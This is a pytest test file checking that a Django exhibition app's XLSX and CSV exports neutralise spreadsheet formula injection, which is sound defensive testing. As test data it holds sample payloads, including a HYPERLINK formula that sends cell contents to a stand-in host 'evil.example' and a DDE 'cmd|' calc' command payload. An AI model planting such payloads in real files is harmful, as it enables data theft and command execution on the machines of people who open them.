"""Every spreadsheet the app writes neutralises formula text (SPEC §12; OWASP CSV injection).

The finding: a city official names a draft `=HYPERLINK(...)`; provincial staff download the monthly
report XLSX and the list exports; the cell must be text (never a formula) in every file.
"""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from core.spreadsheets import neutralise, unneutralise, xlsx_cell
from exhibitions import exporting
from exhibitions.columns import HEADERS
from exhibitions.models import Exhibition
from tests.factories import ExhibitionFactory, VenueFactory, batch, city

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u3000=1+1",  # an ideographic space first
        '＝HYPERLINK("http://evil.example")',
        "＋1",
        "－1",
        "＠SUM(A1)",
        "-",
        "\tplain",
    ],
)
def test_formula_text_gets_the_apostrophe_and_reads_back_unchanged(text):
    guarded = neutralise(text)
    assert guarded == "'" + text
    assert unneutralise(guarded) == text


@pytest.mark.parametrize("value", ["大连国际汽车展", "Dalian Auto Show", "a=b", "1+1", "'quoted", "", 5, -5, 2.5, None])
def test_everything_else_is_written_as_it_is(value):
    assert neutralise(value) == value
    assert xlsx_cell(value) == value
    if isinstance(value, str):
        assert unneutralise(value) == value


def test_xlsx_cells_drop_what_xml_cannot_hold():
    assert xlsx_cell("\x00=1+1") == "'=1+1"
    assert xlsx_cell("a\x07b") == "ab"


def _all_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula_and_guarded(content: bytes) -> None:
    cells = list(_all_cells(content))
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell of any sheet is a formula"
    evil = [c for c in cells if isinstance(c.value, str) and EVIL in c.value]
    assert evil, "the exhibition's name is in the file"
    for cell in evil:
        assert cell.data_type == "s"
        assert cell.value == "'" + EVIL


@pytest.fixture
def draft(client, city_official, sign_in):
    """The city official's draft named with a formula, entered through the real form."""
    from targets.services import progress_recompute

    venue = VenueFactory(city=city("dalian"), indoor_area_m2=100_000, outdoor_area_m2=0, is_professional=True)
    sign_in(client, city_official)
    response = client.post(
        "/exhibitions/new/",
        {
            "name_zh": EVIL,
            "name_en": "+Evil Expo",
            "batch": batch("market").pk,
            "city": venue.city_id,
            "venue": venue.pk,
            "start_date": "2024-05-10",
            "end_date": "2024-05-12",
            "gross_area_m2": "30000",
            "status": "planned",
            "notes": "@SUM(A1)",
        },
    )
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    exhibition = Exhibition.objects.get(name_zh=EVIL)
    client.logout()
    return exhibition, progress_recompute(year=2024, as_of=dt.date(2024, 6, 30))


@pytest.mark.django_db
def test_the_monthly_report_xlsx_writes_the_name_as_text(client, staff_user, sign_in, draft):
    _exhibition, snapshot = draft
    sign_in(client, staff_user)
    response = client.get(f"/reports/monthly/?year=2024&month=5&format=xlsx&snapshot={snapshot.pk}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    _assert_no_formula_and_guarded(response.content)


@pytest.mark.django_db
def test_the_list_exports_write_the_name_as_text(client, staff_user, sign_in, draft):
    sign_in(client, staff_user)
    response = client.get("/exhibitions/export/xlsx/?year=2024")
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    _assert_no_formula_and_guarded(response.content)

    response = client.get("/exhibitions/export/csv/?year=2024")
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    row = rows[1]
    assert row[HEADERS.index("展会名称（中文） / Name (Chinese)")] == "'" + EVIL
    assert row[HEADERS.index("展会名称（英文） / Name (English)")] == "'+Evil Expo"
    assert row[HEADERS.index("备注 / Notes")] == "'@SUM(A1)"
    # No cell of the CSV starts with a character a spreadsheet reads as a formula.
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.django_db
def test_the_export_job_file_writes_the_name_as_text(client, staff_user, settings, tmp_path, draft):
    """The large-export path (a job writing the file) uses the same writer."""
    from django.test import TestCase

    settings.MEDIA_ROOT = tmp_path / "media"
    settings.EXPOPLAN_EXPORT_JOB_ROWS = 0
    client.force_login(staff_user)
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.get("/exhibitions/export/xlsx/?year=2024")
    assert response.status_code == 302
    download = client.get(response["Location"] + "download/")
    assert download.status_code == 200 and "no-store" in download["Cache-Control"]
    _assert_no_formula_and_guarded(b"".join(download.streaming_content))


@pytest.mark.django_db
def test_an_exported_guarded_name_reimports_unchanged():
    ExhibitionFactory(name_zh=EVIL, start_date=dt.date(2024, 5, 1))
    content = exporting.export_csv(exporting.iterate(exporting.export_rows(Exhibition.objects.all())))
    from exhibitions.importing import parse_file

    parsed = parse_file(content, "again.csv")
    from exhibitions.importing import _text

    assert _text(parsed.rows[0][1]["name_zh"]) == EVIL
